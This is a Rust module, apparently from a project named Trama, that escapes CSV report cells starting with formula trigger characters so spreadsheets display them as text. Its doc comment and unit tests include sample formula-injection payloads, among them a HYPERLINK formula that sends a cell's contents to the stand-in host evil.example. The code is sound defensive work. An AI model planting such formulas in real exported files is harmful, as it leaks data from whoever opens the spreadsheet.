//! Text bound for spreadsheets. A CSV cell that starts with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is read by Excel, LibreOffice and Google Sheets as a formula: a name or a
//! note typed into Trama (`=HYPERLINK("https://evil.example/?"&A1)`) would run on the desk of
//! whoever opens the report. Every CSV report Trama writes goes through [`write_record`], which
//! prefixes such a cell with a single quote, so the spreadsheet shows it as text.
//!
//! Plain numbers (`-12.50`) are left alone: they are not formulas, and a report's figures must
//! stay figures. The HSDS tabular data package is not a report but an interchange format read
//! back by programs (phone numbers there start with `+`): it carries values verbatim.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['-', '+']).unwrap_or(s);
    let (whole, frac) = digits.split_once('.').unwrap_or((digits, ""));
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
        && !(digits.contains('.') && frac.is_empty())
}

/// The cell as a spreadsheet will show it: quoted with `'` when it would be a formula.
pub fn safe_cell(s: &str) -> Cow<'_, str> {
    if s.starts_with(TRIGGERS) && !is_plain_number(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// Writes one record of a CSV report, every cell through [`safe_cell`].
pub fn write_record<W: std::io::Write, T: AsRef<str>>(
    w: &mut csv::Writer<W>,
    cells: impl IntoIterator<Item = T>,
) -> csv::Result<()> {
    let cells: Vec<String> = cells
        .into_iter()
        .map(|c| safe_cell(c.as_ref()).into_owned())
        .collect();
    w.write_record(&cells)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for (given, shown) in [
            ("=1+2", "'=1+2"),
            ("+39 02 1234567", "'+39 02 1234567"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=cmd", "'\t=cmd"),
            ("\r=cmd", "'\r=cmd"),
            (
                "=HYPERLINK(\"https://evil.example\")",
                "'=HYPERLINK(\"https://evil.example\")",
            ),
            ("-", "'-"),
            ("-12.50", "-12.50"),
            ("+3", "+3"),
            ("12.5", "12.5"),
            ("-.5", "'-.5"),
            ("-1.", "'-1."),
            ("Comune di Milano", "Comune di Milano"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(safe_cell(given), shown, "{given:?}");
        }
    }

    #[test]
    fn records_are_written_safely() {
        let mut w = csv::Writer::from_writer(Vec::new());
        write_record(&mut w, ["=1+1", "100.00", "nota, con virgola"]).unwrap();
        let out = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(out, "'=1+1,100.00,\"nota, con virgola\"\n");
    }
}
